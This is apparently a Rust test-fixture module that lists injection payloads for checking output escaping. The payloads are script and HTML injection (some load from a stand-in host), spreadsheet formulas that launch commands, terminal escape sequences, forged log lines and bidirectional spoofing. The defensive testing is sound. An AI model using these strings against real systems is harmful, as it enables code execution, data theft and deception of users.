//! Texts that mean harm, each against another reader: a browser, a spreadsheet, a terminal, a log, an eye.
//!
//! One list for all tests. Whoever finds another trick adds it here, and every field is tried with it. In each text stands
//! [`MARK`], so that a test sees that the text arrived, and in what could become an element, an attribute or a script stands
//! the mark as well, so that a test sees if it did.

mod seen;

pub use seen::{begins_a_formula, breaks_out_of_html, lines_of_a_table, steers_a_terminal};

/// Stands in every text.
pub const MARK: &str = "zqxj";

/// A text, and against whom it is.
#[derive(Clone, Copy, Debug)]
pub struct Payload {
    /// A few words for a failure.
    pub name: &'static str,
    /// The text itself.
    pub text: &'static str,
}

const fn payload(name: &'static str, text: &'static str) -> Payload {
    Payload { name, text }
}

/// The list. None is longer than the shortest field that is tried takes.
pub const PAYLOADS: [Payload; 40] = [
    payload("an element", "<zqxj-element>"),
    payload("a script", "<script>window.zqxj=1</script>"),
    payload("a script without an end", "<script src=//zqxj.example/x.js "),
    payload("a picture that is not there", "<img src=x onerror=window.zqxj=2>"),
    payload("a drawing", "<svg/onload=window.zqxj=3>"),
    payload("a frame", "<iframe srcdoc='<script>parent.zqxj=4</script>'>"),
    payload("a style", "<style>@import'//zqxj.example/x.css'</style>"),
    payload("a base", "<base href=//zqxj.example/>"),
    payload("a refresh", "<meta http-equiv=refresh content=0;url=//zqxj.example>"),
    payload("a form", "</form><form action=//zqxj.example><input name=zqxj>"),
    payload("out of an attribute", "\" autofocus onfocus=window.zqxj=5 zqxj=\""),
    payload("out of a single-quoted attribute", "' autofocus onfocus=window.zqxj=6 zqxj='"),
    payload("out of a bare attribute", "x autofocus onfocus=window.zqxj=7"),
    payload("out of a script", "</script><script>window.zqxj=8</script>"),
    payload("out of a text area", "</textarea><zqxj-area>"),
    payload("out of a title", "</title><zqxj-title>"),
    payload("out of a comment", "--><zqxj-comment><!--"),
    payload("half a tag", "<zqxj "),
    payload("an entity", "&lt;zqxj&gt;&#60;zqxj&#62;&quot;"),
    payload("a line of script", "javascript:window.zqxj=9//"),
    payload("a line of script in disguise", "JaVa\tScRiPt:window.zqxj=10//"),
    payload("a page in a link", "data:text/html,<script>window.zqxj=11</script>"),
    payload("a template", "{{7*7}}${7*7}<%= zqxj %>#{7*7}"),
    payload("JSON in a script", "\",\"zqxj\":{\"__proto__\":1}}</script>"),
    payload("lines that some scripts end", "zqxj\u{2028}alert(1)\u{2029}"),
    payload("Markdown", "[zqxj](javascript:window.zqxj=12) ![x](//zqxj.example/x.png) `x` **x**"),
    payload("a formula", "=HYPERLINK(\"//zqxj.example\",\"x\")"),
    payload("a formula with a plus", "+zqxj+cmd|' /C calc'!A0"),
    payload("a formula with a minus", "-zqxj+cmd|' /C calc'!A0"),
    payload("a formula with an at", "@SUM(zqxj)"),
    payload("a formula after a tab", "\t=zqxj"),
    payload("a formula after a return", "\r=zqxj"),
    payload("a cell, a line and a formula", "zqxj\",\"\n=1+1,\"\r\n=2+2"),
    payload("colours", "\u{1b}[31mzqxj\u{1b}[2J\u{1b}[8m"),
    payload("an order to a terminal", "\u{1b}]0;zqxj\u{7}\u{1b}]52;c;enhxag==\u{7}\u{9b}31m\u{90}q\u{9c}"),
    payload("a line over the one before", "zqxj\r\u{8}\u{8}\u{8}all is well\u{b}\u{c}"),
    payload("a line of the log", "zqxj\n2026-11-25T12:00:00Z  INFO oriel: zqxj forged\r\n{\"level\":\"ERROR\"}"),
    payload("writing backwards", "zqxj\u{202e}gpj.exe\u{2066}\u{200f}\u{61c}"),
    payload("what is not seen", "z\u{200b}q\u{200d}x\u{2060}j\u{feff}\u{ad}\u{e0041} zqxj"),
    payload("a nought and what is no letter", "zqxj\0\u{1}\u{7f}\u{fffe}\u{fffd}"),
];

/// A text with no end, of `length` letters.
pub fn endless(length: usize) -> String {
    MARK.chars().cycle().take(length).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_text_has_the_mark_and_a_name_of_its_own() {
        let mut names: Vec<&str> = PAYLOADS.iter().map(|payload| payload.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), PAYLOADS.len());
        for payload in PAYLOADS {
            assert!(payload.text.contains(MARK), "{payload:?}");
        }
    }
}
